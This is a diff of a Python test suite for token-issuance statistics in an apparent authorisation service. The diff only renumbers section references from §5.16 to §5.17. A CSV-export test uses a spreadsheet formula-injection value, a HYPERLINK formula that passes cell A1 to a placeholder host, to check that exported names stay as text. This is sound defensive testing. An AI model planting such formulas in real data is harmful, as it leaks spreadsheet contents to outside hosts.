@@ -1,4 +1,4 @@
-"""Counts of issued and refused tokens, for each side (docs/protocol.md §5.16)."""
+"""Counts of issued and refused tokens, for each side (docs/protocol.md §5.17)."""
 
 import csv
 import io
@@ -50,7 +50,7 @@ def client(world, two):
 
 #= statistics.once statistics.sides
 def test_a_token_is_counted_on_every_side_and_once_in_every_sum(wire, api, sandbox, desk, two, client):
-    """§5.16: with two scopes it is one token, and one of each scope."""
+    """§5.17: with two scopes it is one token, and one of each scope."""
     for _ in range(3):
         issued(wire.fetch(client, {"scope": " ".join(two)}))
     issued(wire.fetch(client, {"scope": two[0]}))
@@ -74,7 +74,7 @@ def test_a_token_is_counted_on_every_side_and_once_in_every_sum(wire, api, sandb
 
 #= statistics.sides
 def test_nobody_sees_what_is_not_its_own(wire, api, desk, two, client):
-    """§5.16: every side of a stranger is empty, and the operator's is refused."""
+    """§5.17: every side of a stranger is empty, and the operator's is refused."""
     issued(wire.fetch(client, {"scope": two[0]}))
     counted(api, (1, 0), client_id=client.client_id)
     stranger = desk.token("317777019", READ, "idporten:scopes.read", OPERATOR_READ)
@@ -100,7 +100,7 @@ def test_each_side_has_its_scope(api, desk, side, scopes, enough):
 
 #= statistics.sides
 def test_a_supplier_sees_what_it_did_for_whom(wire, api, world, sandbox):
-    """§5.16: the token is the consumer's and the supplier's, and neither counts it twice."""
+    """§5.17: the token is the consumer's and the supplier's, and neither counts it twice."""
     scope = world.delegable_scope()
     world.delegate(scope)
     client = world.client([scope], admin="supplier-admin")
@@ -114,7 +114,7 @@ def test_a_supplier_sees_what_it_did_for_whom(wire, api, world, sandbox):
 
 #= statistics.refusals
 def test_refusals_are_counted_by_client_and_code(wire, api, desk, two, client):
-    """§5.16: the owner of the client sees them, and unknown clients are the operator's alone."""
+    """§5.17: the owner of the client sees them, and unknown clients are the operator's alone."""
     issued(wire.fetch(client, {"scope": two[0]}))
     for _ in range(3):
         wire.fetch(client, {"scope": two[0], "aud": "https://x.example/"})
@@ -133,7 +133,7 @@ def test_refusals_are_counted_by_client_and_code(wire, api, desk, two, client):
 
 #= statistics.csv
 def test_csv_has_the_same_rows_and_no_formulas(wire, api, world, two):
-    """§5.16: a name that a spreadsheet would run is text."""
+    """§5.17: a name that a spreadsheet would run is text."""
     name = '=HYPERLINK("https://x.example/?"&A1;"klikk")'
     client = world.client(two, client_name=name)
     issued(wire.fetch(client, {"scope": two[0]}))
@@ -149,7 +149,7 @@ def test_csv_has_the_same_rows_and_no_formulas(wire, api, world, two):
 
 #= statistics.intervals
 def test_time_is_told_as_the_interval_is(wire, api, client, two):
-    """§5.16: hours, days and months in UTC; the usual range ends today."""
+    """§5.17: hours, days and months in UTC; the usual range ends today."""
     issued(wire.fetch(client, {"scope": two[0]}))
     counted(api, (1, 0), client_id=client.client_id)
     for interval, form, days in (("hour", "%Y-%m-%dT%H:00:00Z", 0), ("day", "%Y-%m-%d", 29), ("month", "%Y-%m", 364)):
@@ -173,7 +173,7 @@ def test_time_is_told_as_the_interval_is(wire, api, client, two):
     ("supplier=312345670", "supplier"), ("consumer=312345670", "consumer"), ("consumer=VATDE-123456789", None),
     ("side=supplier&by=code", None)])
 def test_what_cannot_be_asked_is_refused(api, query, field):
-    """§5.16: 400 days, 31 with hours, both ends included; nothing found is an empty list."""
+    """§5.17: 400 days, 31 with hours, both ends included; nothing found is an empty list."""
     response = api("GET", f"{PATH}?{query}", "consumer-admin")
     if field is None:
         assert response.status_code == 200, response.text
@@ -184,13 +184,13 @@ def test_what_cannot_be_asked_is_refused(api, query, field):
 
 #= statistics.range
 def test_an_owner_has_no_refusals_to_divide(api):
-    """§5.16: a refusal belongs to a client."""
+    """§5.17: a refusal belongs to a client."""
     refused(api("GET", f"{PATH}?side=owner&by=code", "owner-admin"), 400, "by")
 
 
 #= statistics.once
 def test_a_crash_neither_loses_nor_repeats_a_token(fresh_sandbox):
-    """§5.16: killed as the counting goes on, twice."""
+    """§5.17: killed as the counting goes on, twice."""
     wire = Wire(fresh_sandbox)
     world = World(wire)
     scope = world.scope()
